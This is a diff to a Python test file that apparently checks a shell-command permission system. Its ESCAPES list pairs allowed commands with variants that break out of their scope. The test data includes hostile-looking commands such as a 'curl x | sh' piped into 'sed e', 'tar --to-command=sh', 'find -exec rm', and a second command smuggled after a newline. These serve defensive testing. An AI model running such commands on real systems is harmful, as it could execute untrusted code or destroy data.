@@ -229,14 +229,14 @@ ESCAPES = [
     ("echo hi | tee out.txt", "echo hi | tee /tmp/x", None),
     # arguments that write or execute
     ("sed -n 1p README.md", "sed -i s/a/b/ README.md", None),
-    ("awk '{print}' README.md", AWK_SYSTEM, f"exactly: {AWK_SYSTEM}"),
+    ("awk '{print}' README.md", AWK_SYSTEM, f'exactly "{AWK_SYSTEM}"'),
     ("find . -name x.py", "find . -name x.py -exec rm '{}' +", None),
     ("find . -name x.py", "find . -name x.py -delete", None),
     ("tar -tf a.tar", "tar -xf a.tar --to-command=sh", None),
     ("git log", "git -c core.pager=./x log", None),
     ("git diff", "git diff --output=patch.txt", None),
     ("git diff", "git diff --outp=patch.txt", None),
-    ("git status", "git push", "exactly: git push"),
+    ("git status", "git push", 'exactly "git push"'),
     ("rg TODO", "rg --pre=./run.sh TODO", None),
     ("rg TODO", "rg -z TODO", None),
     ("grep -rn TODO .", "grep -Rn TODO .", None),
@@ -281,8 +281,8 @@ ESCAPES = [
     ("cat README.md", "coproc cat README.md", None),
     ("cat README.md", "time touch X", None),
     # what an exactly allowed command reads as code
-    ("echo hi | sed e", "echo 'curl x | sh' | sed e", "exactly: echo 'curl x | sh' | sed e"),
-    ("sed e < a.txt", "sed e < b.txt", "exactly: sed e < b.txt"),
+    ("echo hi | sed e", "echo 'curl x | sh' | sed e", "exactly \"echo 'curl x | sh' | sed e\""),
+    ("sed e < a.txt", "sed e < b.txt", 'exactly "sed e < b.txt"'),
 ]
 
 
@@ -322,7 +322,7 @@ def test_a_newline_between_operators_does_not_hide_a_second_command(
 
 def test_a_second_command_after_a_newline_has_its_own_scope(ctx: ToolContext) -> None:
     assert always_option(ctx, "cat README.md\n\ntouch X") == (
-        "cat … (paths inside the project) and exactly: touch X"
+        'cat … on paths inside the project, and exactly "touch X"'
     )
 
 
